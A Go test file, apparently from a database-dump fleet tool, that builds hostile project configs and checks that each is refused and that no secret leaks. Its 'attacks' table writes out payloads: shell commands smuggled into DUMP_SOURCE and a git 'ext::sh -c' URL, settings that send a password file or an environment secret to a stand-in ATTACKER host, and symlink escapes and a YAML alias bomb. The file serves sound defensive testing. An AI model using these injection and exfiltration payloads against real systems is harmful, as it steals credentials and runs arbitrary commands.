package main

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"net"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync/atomic"
	"syscall"
)

// attack is a project whose repository tries something.
type attack struct {
	name string
	// make makes its folder .ddev; entry is what fleet.yaml says about it if it is no folder of "hostile".
	make  func(h *hostility, folder string) error
	entry string
	// reason is in its error.
	reason string
	// sourceless means that the operator names no source for it, nameless that he does not name it.
	sourceless, nameless bool
}

// hostility is what the attacks aim at.
type hostility struct {
	*stage
	victim   *site
	password string // the file of the victim's password
	server   net.Listener
	reached  atomic.Int32 // connections to the attackers' server
}

// theSecret is in the victim's password file, and in the environment of the fleet.
const theSecret = "s3cr3t-of-somebody-else"

// settings makes a config.yaml with these settings.
func settings(lines ...string) func(*hostility, string) error {
	return func(h *hostility, folder string) error {
		text := "name: " + filepath.Base(filepath.Dir(folder)) + "\ntype: php\n"
		if len(lines) > 0 {
			text += "web_environment:\n"
		}
		replace := strings.NewReplacer("PASSWORD_FILE", h.password, "ATTACKER", h.server.Addr().String(), "MARKER", filepath.Join(h.dir, "marker"), "VICTIM", h.victim.source)
		for _, line := range lines {
			text += "  - '" + replace.Replace(line) + "'\n"
		}
		return os.WriteFile(filepath.Join(folder, "config.yaml"), []byte(text), 0o644)
	}
}

func link(from, to string) func(*hostility, string) error {
	return func(h *hostility, folder string) error {
		if err := settings()(h, folder); err != nil {
			return err
		}
		path := filepath.Join(folder, from)
		_ = os.Remove(path)
		return os.Symlink(strings.NewReplacer("PASSWORD_FILE", h.password, "VICTIM", filepath.Join(h.dir, "sites", h.victim.name)).Replace(to), path)
	}
}

func callsItselfLikeTheVictim(h *hostility, folder string) error {
	return os.WriteFile(filepath.Join(folder, "config.yaml"), []byte("name: "+h.victim.name+"\ntype: php\n"), 0o644)
}

const (
	onlyTheOperator = "only the operator of the fleet decides this"
	// overridden is the end of a project whose own setting does not count, because the operator has set it: it dumps the empty database that
	// the operator means.
	overridden = "the staging database has no tables"
)

var attacks = []attack{
	{name: "twin", reason: "its dumps would be in the same place as those of", nameless: true, make: callsItselfLikeTheVictim},
	{name: "impostor", reason: "the project calls itself", make: callsItselfLikeTheVictim},
	{name: "fifo", reason: "it is not a regular file", make: func(h *hostility, folder string) error {
		return errors.Join(settings()(h, folder), syscall.Mkfifo(filepath.Join(folder, ".env"), 0o644))
	}},
	{name: "zero", reason: "cannot be read", make: link("config.yaml", "/dev/zero")},
	{name: "command", reason: onlyTheOperator, sourceless: true, make: settings("DUMP_SOURCE=command:env >MARKER; exit 1")},
	{name: "thief", reason: onlyTheOperator, make: settings("DUMP_SOURCE_PASSWORD_FROM=file:PASSWORD_FILE", "DUMP_SOURCE=mysql://root@ATTACKER/x?tls=off")},
	{name: "prefix", reason: overridden, make: settings("DUMP_S3_PREFIX=x-${AWS_SECRET_ACCESS_KEY}-${THE_SECRET}")},
	{name: "ssh", reason: onlyTheOperator, make: settings("DUMP_SSH=${THE_SECRET}@ATTACKER")},
	{name: "endpoint", reason: overridden, make: settings("DUMP_S3_ENDPOINT=http://ATTACKER")},
	{name: "place", reason: overridden, make: settings("DUMP_S3_PREFIX=dumps/VICTIM")},
	{name: "link", reason: "it is a link that leads out of the project's folder", make: link(".env.dump", "PASSWORD_FILE")},
	{name: "mirror", reason: "it is a link that leads out of the project's folder", make: link(".env.dump", "VICTIM/.ddev/.env.dump")},
	{name: "huge", reason: "it is larger than 1024 KiB", make: func(h *hostility, folder string) error {
		return errors.Join(settings()(h, folder), os.WriteFile(filepath.Join(folder, ".env"), nil, 0o644), os.Truncate(filepath.Join(folder, ".env"), 3<<30))
	}},
	// Its aliases are not followed, so it is a project like any other, of a database without tables.
	{name: "bomb", reason: overridden, make: func(_ *hostility, folder string) error {
		text := "name: bomb\na0: &a0 [x, x, x, x, x, x, x, x, x, x]\n"
		for i := 1; i < 12; i++ {
			text += fmt.Sprintf("a%d: &a%d [%s]\n", i, i, strings.TrimSuffix(strings.Repeat(fmt.Sprintf("*a%d, ", i-1), 10), ", "))
		}
		return os.WriteFile(filepath.Join(folder, "config.yaml"), []byte(text+"web_environment: *a11\n"), 0o644)
	}},
	{name: "ext", reason: "is not on another machine", entry: "git: 'ext::sh -c \"env >MARKER\"'"},
	{name: "file", reason: "is not on another machine", entry: "git: 'file://VICTIM'"},
}

// hostile refreshes a fleet of which a third does not mean well. The others are published as if it were not there, and nothing of anybody
// else's gets into an object, a program's environment or a log.
func (s *stage) hostile(ctx context.Context) (err error) {
	h := &hostility{stage: s, victim: s.healthy[0], password: filepath.Join(s.dir, "passwords", "victim")}
	if h.server, err = net.Listen("tcp4", "127.0.0.1:0"); err != nil {
		return err
	}
	defer h.server.Close()
	go h.count()
	if err := errors.Join(os.MkdirAll(filepath.Dir(h.password), 0o700), os.WriteFile(h.password, []byte(theSecret), 0o600)); err != nil {
		return err
	}
	reasons, file, err := h.write()
	if err != nil {
		return err
	}
	if s.hostileRun, err = s.hostileEnvironment(ctx, file); err != nil {
		return err
	}
	found, err := s.hostileRun.report()
	if err != nil {
		return err
	}
	honest := map[string]bool{"command-of-the-operator": true}
	for _, site := range s.healthy {
		honest[site.name] = true
	}
	var packed, longest float64
	published, refused := 0, 0
	for _, project := range found.Projects {
		reason, attacks := reasons[project.Slot]
		switch {
		case attacks && (project.State != "failed" || !strings.Contains(project.Error, reason)):
			err = errors.Join(err, fmt.Errorf("%s: %s, %q; %q was to be in its reason", project.Slot, project.State, project.Error, reason))
		case attacks:
			refused++
		case !honest[project.Project] || project.State != "published":
			return fmt.Errorf("%s: %s: %s", project.Project, project.State, project.Error)
		default:
			published++
			packed += project.Seconds
			longest = max(longest, project.Seconds)
		}
	}
	if err != nil {
		return err
	}
	if published != len(honest) || refused != len(reasons) {
		return fmt.Errorf("%d of %d published, %d of %d refused", published, len(honest), refused, len(reasons))
	}
	best := max(longest, packed/float64(s.parallel))
	fmt.Fprintf(s.out, "    %d published, %d refused in %.1f s, %.2f of the best packing\n", published, refused, found.Seconds, found.Seconds/best)
	if s.timed && found.Seconds > 1.05*best+0.5 {
		return errors.New("more than 1.05 of the best packing")
	}
	own := map[string]bool{}
	for slot := range reasons {
		own[filepath.Base(slot)] = true
	}
	return h.nothingLeaked(honest, own)
}

// write makes the projects, and returns what is to be said of each attack, by its folder or URL.
func (h *hostility) write() (reasons map[string]string, file string, err error) {
	reasons = map[string]string{}
	text := fmt.Sprintf("defaults: {retries: 0, prefix: 'dumps/{name}', set: {DUMP_S3_BUCKET: %s}}\nper_host: %d\nmemory: %s\nprojects:\n", hostileBucket, h.parallel, h.memory)
	for _, site := range h.healthy {
		text += fmt.Sprintf("  - {path: honest/%s, name: %s, set: {DUMP_SOURCE: '%s'}}\n", site.name, site.name, site.source)
		folder := filepath.Join(h.dir, "honest", site.name, ".ddev")
		if err := errors.Join(os.MkdirAll(folder, 0o755), os.WriteFile(filepath.Join(folder, "config.yaml"), []byte("name: "+site.name+"\ntype: php\n"), 0o644)); err != nil {
			return nil, "", err
		}
	}
	// A command that the operator wants gets no keys either.
	folder := filepath.Join(h.dir, "honest", "command-of-the-operator", ".ddev")
	if err := errors.Join(os.MkdirAll(folder, 0o755), os.WriteFile(filepath.Join(folder, "config.yaml"), []byte("name: command-of-the-operator\ntype: php\n"), 0o644)); err != nil {
		return nil, "", err
	}
	text += "  - {path: honest/command-of-the-operator, set: {DUMP_SOURCE: 'command:env >" + filepath.Join(h.dir, "environment") + "; echo \"CREATE TABLE a (id int);\"; echo \"-- Dump completed\"'}}\n"
	for i := range max(len(attacks), (len(h.healthy)+1)/2) { // at least half as many as there are others: a third of all
		one := attacks[i%len(attacks)]
		name := one.name
		if i >= len(attacks) {
			name = fmt.Sprintf("%s%d", one.name, i)
		}
		if one.entry != "" {
			if i >= len(attacks) {
				continue // one URL is one project
			}
			entry := strings.NewReplacer("MARKER", filepath.Join(h.dir, "marker"), "VICTIM", filepath.Join(h.dir, "sites", h.victim.name)).Replace(one.entry)
			text += "  - " + entry + "\n"
			reasons[strings.Trim(strings.TrimPrefix(entry, "git: "), "'")] = one.reason
			continue
		}
		folder := filepath.Join(h.dir, "hostile", name, ".ddev")
		if err := errors.Join(os.MkdirAll(folder, 0o755), one.make(h, folder)); err != nil {
			return nil, "", err
		}
		set := ""
		if !one.sourceless {
			set = ", set: {DUMP_SOURCE: '" + h.maria.URL("nothing") + "'}"
		}
		if !one.nameless {
			set += ", name: " + name
		}
		text += fmt.Sprintf("  - {path: hostile/%s%s}\n", name, set)
		reasons[filepath.Dir(folder)] = one.reason
	}
	file = filepath.Join(h.dir, "hostile.yaml")
	return reasons, file, os.WriteFile(file, []byte(text), 0o644)
}

// hostileEnvironment runs the fleet with a secret in its environment.
func (s *stage) hostileEnvironment(ctx context.Context, file string) (ran, error) {
	result, err := s.programWith(ctx, []string{"THE_SECRET=" + theSecret}, "fleet", "refresh", "--file", file, "--parallel", fmt.Sprint(s.parallel), "--json")
	if err == nil {
		err = result.wanted(13)
	}
	return result, err
}

// count counts the connections to the attackers' server.
func (h *hostility) count() {
	for {
		connection, err := h.server.Accept()
		if err != nil {
			return
		}
		h.reached.Add(1)
		_ = connection.Close()
	}
}

// nothingLeaked looks for the secrets, and for what the attacks would leave. A hostile project may only have objects in the place that is its own.
func (h *hostility) nothingLeaked(honest, own map[string]bool) error {
	if n := h.reached.Load(); n > 0 {
		return fmt.Errorf("the attackers' server was reached %d times", n)
	}
	if text, err := os.ReadFile(filepath.Join(h.dir, "marker")); err == nil {
		return fmt.Errorf("a command of an attacker ran:\n%s", text)
	}
	secrets := [][]byte{[]byte(theSecret), []byte(h.s3.SecretKey)}
	leaks := func(what string, text []byte) error {
		if slices.ContainsFunc(secrets, func(secret []byte) bool { return bytes.Contains(text, secret) }) {
			return fmt.Errorf("a secret is in %s", what)
		}
		return nil
	}
	environment, err := os.ReadFile(filepath.Join(h.dir, "environment"))
	if err != nil {
		return err
	}
	problems := []error{
		leaks("the output", []byte(h.hostileRun.stdout+h.hostileRun.stderr)), leaks("the environment of a command", environment),
	}
	keys, err := h.s3.Keys(hostileBucket)
	if err != nil {
		return err
	}
	dumps := map[string]int{}
	for _, key := range keys {
		text, err := h.s3.GetObject(hostileBucket, key)
		if err != nil {
			return err
		}
		problems = append(problems, leaks("the name "+key, []byte(key)), leaks("the object "+key, text))
		parts := strings.Split(key, "/")
		switch {
		case parts[0] == ".dump-refresh":
		case len(parts) == 4 && parts[0] == "dumps" && own[parts[1]] && parts[2] == ".dump-refresh": // the lease and the history of a project that was tried
		case parts[0] != "dumps" || len(parts) < 3 || !honest[parts[1]]:
			problems = append(problems, fmt.Errorf("there is an object %s", key))
		case len(parts) == 3:
			dumps[parts[1]]++
		}
	}
	for name := range honest {
		if dumps[name] != 1 {
			problems = append(problems, fmt.Errorf("%s has %d dumps", name, dumps[name]))
		}
	}
	return errors.Join(problems...)
}
